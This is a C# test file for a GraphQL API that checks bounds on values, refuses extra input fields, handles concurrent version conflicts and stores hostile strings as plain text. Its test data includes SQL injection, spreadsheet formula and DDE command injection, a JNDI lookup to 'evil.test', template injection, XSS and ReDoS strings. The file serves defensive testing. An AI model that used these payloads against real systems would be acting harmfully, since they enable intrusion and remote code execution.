using System.Text.Json;
using System.Text.Json.Nodes;
using AgencyRoi.GraphQL.TypeSystem;

namespace AgencyRoi.Tests.Isolation;

/// <summary>Values that are too large, no values at all, more than was asked for, or commands of another language.</summary>
[Collection(IsolationCollection.Name)]
public sealed class InputAttackTests(IsolationWorld world)
{
    private static Schema Schema => IsolationWorld.Staff;

    [Theory]
    [InlineData("{ clients(first: 1000000) { nodes { id } } }")]
    [InlineData("{ clients(first: 101) { nodes { id } } }")]
    [InlineData("{ clients(first: -1) { nodes { id } } }")]
    [InlineData("{ clients(first: 2147483648) { nodes { id } } }")]
    [InlineData("{ clients(first: 1e3) { nodes { id } } }")]
    [InlineData("{ clients(first: 1, last: 1) { nodes { id } } }")]
    [InlineData("""{ clients(after: "nonsense") { nodes { id } } }""")]
    [InlineData("""{ clients(where: { name: { eq: "\u0000" } }) { nodes { id } } }""")]
    [InlineData("""{ clients(where: { archivedAt: { eq: "2026-02-30T00:00:00Z" } }) { nodes { id } } }""")]
    [InlineData("""{ clients(where: { margin: { eq: 1e400 } }) { nodes { id } } }""")]
    [InlineData("""{ clients { nodes { roi(period: { from: "2026-02-30", to: "2026-03-01" }) { currencyCode } } } }""")]
    [InlineData("""{ clients { nodes { roi(period: { from: "2026-03-01", to: "2026-02-01" }) { currencyCode } } } }""")]
    [InlineData("""{ compareClients(period: { from: "2026-03-01", to: "2026-02-01" }) { currencyCode } }""")]
    [InlineData("""{ compareClients(period: { from: "2025-01-01", to: "2026-01-01" }, first: 1000000) { currencyCode } }""")]
    [InlineData(
        """{ clients { nodes { roi(period: { from: "0001-01-01", to: "9999-12-31" }) { overTime(interval: DAY) { period { from } } } } } }"""
    )]
    public async Task A_value_out_of_bounds_is_the_callers_mistake_and_told_in_our_words(string document)
    {
        var answer = await world.Owner.AskAsync(document);

        Refusals.CheckBody(document, answer);
        Assert.DoesNotMatch("\"(INTERNAL|UNAVAILABLE|TIMEOUT)\"", answer);
    }

    [Fact]
    public async Task Ten_thousand_ids_are_refused()
    {
        var ids = new JsonArray([.. Enumerable.Range(0, 10_000).Select(_ => (JsonNode)world.FirstClient["Client"])]);

        var answer = await world.Owner.AskAsync("query($ids: [ID!]!) { nodes(ids: $ids) { id } }", new JsonObject { ["ids"] = ids });

        Refusals.CheckBody("ids", answer);
        Assert.DoesNotContain(world.FirstClient["Client"], answer);
    }

    [Theory]
    [InlineData("' or '1'='1")]
    [InlineData("%_%_%_%")]
    [InlineData("(a+)+$")]
    [InlineData("\u202E\u202E")]
    public async Task A_text_to_be_found_is_only_a_text(string text)
    {
        foreach (var comparison in new[] { "eq", "contains", "startsWith", "endsWith" })
        {
            var where = new JsonObject { ["name"] = new JsonObject { [comparison] = text } };
            var answer = await world.Owner.AskAsync(
                "query($where: ClientFilterInput) { clients(where: $where) { totalCount } }",
                new JsonObject { ["where"] = where }
            );
            Assert.Equal("""{"data":{"clients":{"totalCount":0}}}""", answer);
        }
        Assert.Equal(
            """{"data":{"node":null}}""",
            await world.Owner.AskAsync("query($id: ID!) { node(id: $id) { id } }", new JsonObject { ["id"] = text })
        );
    }

    [Fact]
    public async Task No_input_takes_a_field_that_it_does_not_have()
    {
        foreach (var mutation in Schema.MutationType!.Fields)
        {
            var input = Documents.InputOf(Schema, mutation.Name);
            foreach (var extra in new[] { "tenantId", "tenant_id", "id", "role", "isOwner", "createdAt", "version", "deletedAt" })
            {
                if (input.Fields[extra] is not null)
                    continue;
                var filled = world.FirstClient.Filler.Fill(input, (_, slot) => world.FirstClient[slot]);
                filled[extra] = "1";
                var answer = await world.Owner.AskAsync(Documents.Mutation(Schema, mutation.Name), new JsonObject { ["input"] = filled });
                Assert.True(
                    answer.Contains("\"BAD_INPUT\"", StringComparison.Ordinal) && !answer.Contains("\"data\"", StringComparison.Ordinal),
                    $"{mutation.Name}({extra}): {answer}"
                );
            }
        }
    }

    [Theory]
    [InlineData("'; drop table app.clients; --")]
    [InlineData("=HYPERLINK(\"https://evil.test\")")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("two\r\nlines\t and \\u0000 \"quoted\"")]
    [InlineData("${jndi:ldap://evil.test} {{7*7}} <script>alert(1)</script>")]
    [InlineData("\u202Etxt.exe \uFEFF\uFFFE 🏳️‍🌈 ﷺ")]
    public async Task Every_text_is_kept_as_it_was_given(string attack)
    {
        foreach (var mutation in Schema.MutationType!.Fields.Where(field => Makes(field.Name)))
        {
            var input = Documents.InputOf(Schema, mutation.Name);
            var filled = await world.FirstClient.InputAsync(input);
            var texts = input.Fields.Where(field => IsFreeText(field) && !IsHashed(input, field)).Select(field => field.Name).ToList();
            foreach (var text in texts)
                // A key that begins as a spreadsheet's formula does is refused.
                filled[text] =
                    (text is "partner" or "post" or "proof" || text.EndsWith("Reference", StringComparison.Ordinal) ? "key " : "")
                    + $"{attack} {filled[text]}";

            var answer = await world.Owner.ReadAsync(
                Documents.Mutation(Schema, mutation.Name),
                new JsonObject { ["input"] = filled.DeepClone() }
            );

            Assert.True(Documents.Succeeded(answer), $"{mutation.Name}: {answer}");
            var kept = Strings(answer.GetProperty("data")).ToHashSet();
            Assert.All(texts, text => Assert.Contains((string)filled[text]!, kept));
        }
    }

    [Fact]
    public async Task Of_fifty_updates_of_the_same_version_one_is_done()
    {
        var id = (await Holdings.MakeAsync(world, world.Owner, "nutmeg", 5555.55m))["Client"];
        var document = Documents.Mutation(Schema, "updateClient");
        var updates = Enumerable
            .Range(0, 50)
            .Select(i => new JsonObject
            {
                ["input"] = new JsonObject
                {
                    ["id"] = id,
                    ["version"] = 1,
                    ["name"] = $"nutmeg {i}",
                },
            });

        var answers = await Task.WhenAll(updates.Select(update => world.Owner.AskAsync(document, update)));

        Assert.Single(answers, answer => answer.Contains("\"errors\":null", StringComparison.Ordinal));
        Assert.Equal(49, answers.Count(answer => answer.Contains("\"CONFLICT\"", StringComparison.Ordinal)));
        Assert.Equal(2, await world.VersionAsync(id));
    }

    private static bool Makes(string mutation) =>
        new[] { "create", "record", "add", "set" }.Any(verb => mutation.StartsWith(verb, StringComparison.Ordinal));

    // Of these a hash alone is kept.
    private static bool IsHashed(InputObjectType input, InputValueDefinition field) =>
        field.Name is "visitorKey" or "email" or "crmId" or "handle" or "device"
        || (input.Name, field.Name) is ("RecordTouchInput", "contactReference");

    // Codes, currencies, zones, languages and addresses have a form of their own.
    private static bool IsFreeText(InputValueDefinition field) =>
        field.Type.Unwrapped.Name == "String"
        && field.Name
            is not (
                "code"
                or "networkCode"
                or "attributeCode"
                or "needCode"
                or "offerCode"
                or "variantCode"
                or "experimentCode"
                or "currency"
                or "baseCurrency"
                or "quoteCurrency"
                or "timeZone"
                or "language"
                or "url"
                // A term is folded, a market is of a list, a page is an address.
                or "keyword"
                or "country"
                or "targetPage"
            );

    private static IEnumerable<string> Strings(JsonElement element) =>
        element.ValueKind switch
        {
            JsonValueKind.String => [element.GetString()!],
            JsonValueKind.Object => element.EnumerateObject().SelectMany(property => Strings(property.Value)),
            JsonValueKind.Array => element.EnumerateArray().SelectMany(Strings),
            _ => [],
        };
}
